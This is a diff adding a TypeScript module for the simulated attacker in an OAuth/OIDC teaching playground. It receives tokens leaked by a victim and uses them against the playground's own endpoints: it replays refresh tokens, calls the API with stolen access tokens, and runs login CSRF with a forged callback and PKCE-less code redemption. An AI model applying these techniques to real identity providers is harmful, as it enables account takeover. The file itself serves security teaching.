@@ -1,0 +1,255 @@
+import { z } from 'zod';
+import type { PlaygroundEnv } from '../config/env';
+import { fetchOverLoopback } from '../client/loopback-fetch';
+import { errorResponse } from '../http/errors';
+import { identifyRequester, onBehalfOf } from '../http/requester';
+import { FROM_HEADER } from '../trace/roles';
+import { RUN_HEADER, runOf } from '../trace/run';
+import { authorizeAsAttacker } from './attacker-authorize';
+import { lootStore, type LootItem } from './loot';
+import { ATTACKER, PARTY_HEADER } from './party';
+
+/**
+ * The attack lab's attacker: a server of its own inside the playground. It receives what a scenario's
+ * victim leaks (POST /api/attacker/loot), shows what it holds (GET), and uses it against the playground's
+ * own endpoints only (fixed paths, never a URL from the request). Its requests carry the party header,
+ * so the diagram draws them as the attacker's.
+ */
+const noLearner = () =>
+  errorResponse(401, 'no_learner', 'Open a playground page first: the attacker keeps loot per learner.');
+
+const nothingStolen = (what: string) =>
+  errorResponse(
+    409,
+    'nothing_stolen',
+    `The attacker holds no ${what} from this run, so it has nothing to replay.`,
+  );
+
+export const lootSchema = z.object({
+  kind: z.enum(['refresh_token', 'access_token', 'code'], {
+    error: 'kind must be refresh_token, access_token or code',
+  }),
+  value: z.string().min(1, 'value: the stolen token is missing').max(4096),
+  client_id: z.string().max(200).optional(),
+});
+
+async function learnerOf(request: Request) {
+  return (await identifyRequester(request.headers)).learnerId;
+}
+
+/** POST /api/attacker/loot: the exfiltration endpoint an injected script posts a stolen token to. */
+export async function receiveLoot(request: Request): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const form = Object.fromEntries(new URLSearchParams(await request.text()));
+  const parsed = lootSchema.safeParse(form);
+  if (!parsed.success)
+    return errorResponse(
+      400,
+      'invalid_request',
+      parsed.error.issues.map((issue) => issue.message).join('; '),
+    );
+  const item: LootItem = {
+    ...parsed.data,
+    how:
+      parsed.data.kind === 'code'
+        ? 'caught on the redirect by the malicious app'
+        : 'sent by the injected script',
+    run: runOf(request.headers),
+    at: new Date().toISOString(),
+  };
+  lootStore().add(learnerId, item);
+  return Response.json({ received: item }, { status: 201, headers: { 'cache-control': 'no-store' } });
+}
+
+/** GET /api/attacker/loot: what the attacker holds, for the learner to see. */
+export async function showLoot(request: Request): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  return Response.json({ loot: lootStore().list(learnerId) }, { headers: { 'cache-control': 'no-store' } });
+}
+
+async function asAttacker(
+  request: Request,
+  env: PlaygroundEnv,
+  path: string,
+  init: { method: 'GET' | 'POST'; headers?: Record<string, string>; form?: Record<string, string> },
+) {
+  const headers: Record<string, string> = {
+    accept: 'application/json',
+    [FROM_HEADER]: 'client',
+    [PARTY_HEADER]: ATTACKER,
+    ...(await onBehalfOf(request.headers)),
+    ...init.headers,
+  };
+  const run = runOf(request.headers);
+  if (run) headers[RUN_HEADER] = run;
+  if (init.form) headers['content-type'] = 'application/x-www-form-urlencoded';
+  const response = await fetchOverLoopback(env.internalOrigin, env.publicOrigin, path, {
+    method: init.method,
+    headers,
+    body: init.form ? new URLSearchParams(init.form) : undefined,
+  });
+  const text = await response.text();
+  let body: unknown = text;
+  try {
+    body = JSON.parse(text);
+  } catch {
+    // Not JSON: kept as text.
+  }
+  return { status: response.status, body };
+}
+
+/** The attacker's request to the playground, or a clear 502 when the playground cannot be reached. */
+async function attempt(send: () => Promise<{ status: number; body: unknown }>, env: PlaygroundEnv) {
+  try {
+    return relay(await send());
+  } catch (error) {
+    return errorResponse(
+      502,
+      'server_unreachable',
+      `The attacker could not reach ${env.internalOrigin}: ${error instanceof Error ? error.message : error}`,
+    );
+  }
+}
+
+/** The attacker's answer: exactly what the playground's server answered it. */
+const relay = ({ status, body }: { status: number; body: unknown }) =>
+  Response.json(body, { status, headers: { 'cache-control': 'no-store' } });
+
+/** POST /api/attacker/refresh-token-replay: the stolen refresh token at the token endpoint (RFC 6749 §6). */
+export async function replayRefreshToken(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const stolen = lootStore().newest(learnerId, 'refresh_token', runOf(request.headers));
+  if (!stolen) return nothingStolen('refresh token');
+  return attempt(async () => {
+    const answer = await asAttacker(request, env, '/oidc/token', {
+      method: 'POST',
+      form: {
+        grant_type: 'refresh_token',
+        refresh_token: stolen.value,
+        ...(stolen.client_id ? { client_id: stolen.client_id } : {}),
+      },
+    });
+    const accessToken = (answer.body as { access_token?: unknown } | null)?.access_token;
+    if (answer.status === 200 && typeof accessToken === 'string')
+      lootStore().add(learnerId, {
+        kind: 'access_token',
+        value: accessToken,
+        client_id: stolen.client_id,
+        how: 'got by replaying the stolen refresh token',
+        run: stolen.run,
+        at: new Date().toISOString(),
+      });
+    return answer;
+  }, env);
+}
+
+/** POST /api/attacker/call-api: the newest stolen access token at the playground's API (RFC 6750 §2.1). */
+export async function callApiAsVictim(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const stolen = lootStore().newest(learnerId, 'access_token', runOf(request.headers));
+  if (!stolen) return nothingStolen('access token');
+  return attempt(
+    () =>
+      asAttacker(request, env, '/api/v1/accounts/verify_credentials', {
+        method: 'GET',
+        headers: { authorization: `Bearer ${stolen.value}` },
+      }),
+    env,
+  );
+}
+
+export const codeRequestSchema = z.object({
+  client_id: z.string().regex(/^lab-[a-z0-9-]+$/, 'client_id must be one of the attack lab’s clients'),
+});
+
+/**
+ * POST /api/attacker/authorization-code: the attacker gets a code for its own account (bob) for the
+ * victim's client, and keeps it unredeemed (login CSRF, RFC 9700 §4.7). Only the lab's clients.
+ */
+export async function obtainAttackerCode(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const parsed = codeRequestSchema.safeParse(Object.fromEntries(new URLSearchParams(await request.text())));
+  if (!parsed.success)
+    return errorResponse(
+      400,
+      'invalid_request',
+      parsed.error.issues.map((issue) => issue.message).join('; '),
+    );
+  try {
+    const result = await authorizeAsAttacker(
+      request,
+      env,
+      parsed.data.client_id,
+      `${env.publicOrigin}/callback`,
+    );
+    if (!result.ok) return errorResponse(502, result.error, result.error_description);
+    lootStore().add(learnerId, {
+      kind: 'code',
+      value: result.code,
+      client_id: parsed.data.client_id,
+      how: 'issued to the attacker signed in as bob, not redeemed',
+      run: runOf(request.headers),
+      at: new Date().toISOString(),
+    });
+    return Response.json(
+      { code_for: 'bob', client_id: parsed.data.client_id, redirects_followed: result.hops },
+      { status: 201, headers: { 'cache-control': 'no-store' } },
+    );
+  } catch (error) {
+    return errorResponse(
+      502,
+      'server_unreachable',
+      `The attacker could not reach ${env.internalOrigin}: ${error instanceof Error ? error.message : error}`,
+    );
+  }
+}
+
+/**
+ * GET /api/attacker/forged-callback: the attacker's page the victim is lured to. It sends the victim's
+ * browser to the client's redirect URI with the attacker's code, as if the victim had just signed in.
+ */
+export async function forgedCallback(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const code = lootStore().newest(learnerId, 'code', runOf(request.headers));
+  if (!code) return nothingStolen('authorization code');
+  const target = new URL('/callback', env.publicOrigin);
+  target.searchParams.set('code', code.value);
+  target.searchParams.set('iss', `${env.publicOrigin}/oidc`);
+  return new Response(null, { status: 303, headers: { location: target.href, 'cache-control': 'no-store' } });
+}
+
+/** POST /api/attacker/redeem-code: the caught code at the token endpoint, without a code_verifier (RFC 7636 §1). */
+export async function redeemCaughtCode(request: Request, env: PlaygroundEnv): Promise<Response> {
+  const learnerId = await learnerOf(request);
+  if (!learnerId) return noLearner();
+  const caught = lootStore().newest(learnerId, 'code', runOf(request.headers));
+  if (!caught) return nothingStolen('authorization code');
+  return attempt(async () => {
+    const answer = await asAttacker(request, env, '/oidc/token', {
+      method: 'POST',
+      form: {
+        grant_type: 'authorization_code',
+        code: caught.value,
+        redirect_uri: `${env.publicOrigin}/callback`,
+        ...(caught.client_id ? { client_id: caught.client_id } : {}),
+      },
+    });
+    const accessToken = (answer.body as { access_token?: unknown } | null)?.access_token;
+    if (answer.status === 200 && typeof accessToken === 'string')
+      lootStore().add(learnerId, {
+        kind: 'access_token',
+        value: accessToken,
+        client_id: caught.client_id,
+        how: 'got by redeeming the caught code',
+        run: caught.run,
+        at: new Date().toISOString(),
+      });
+    return answer;
+  }, env);
+}
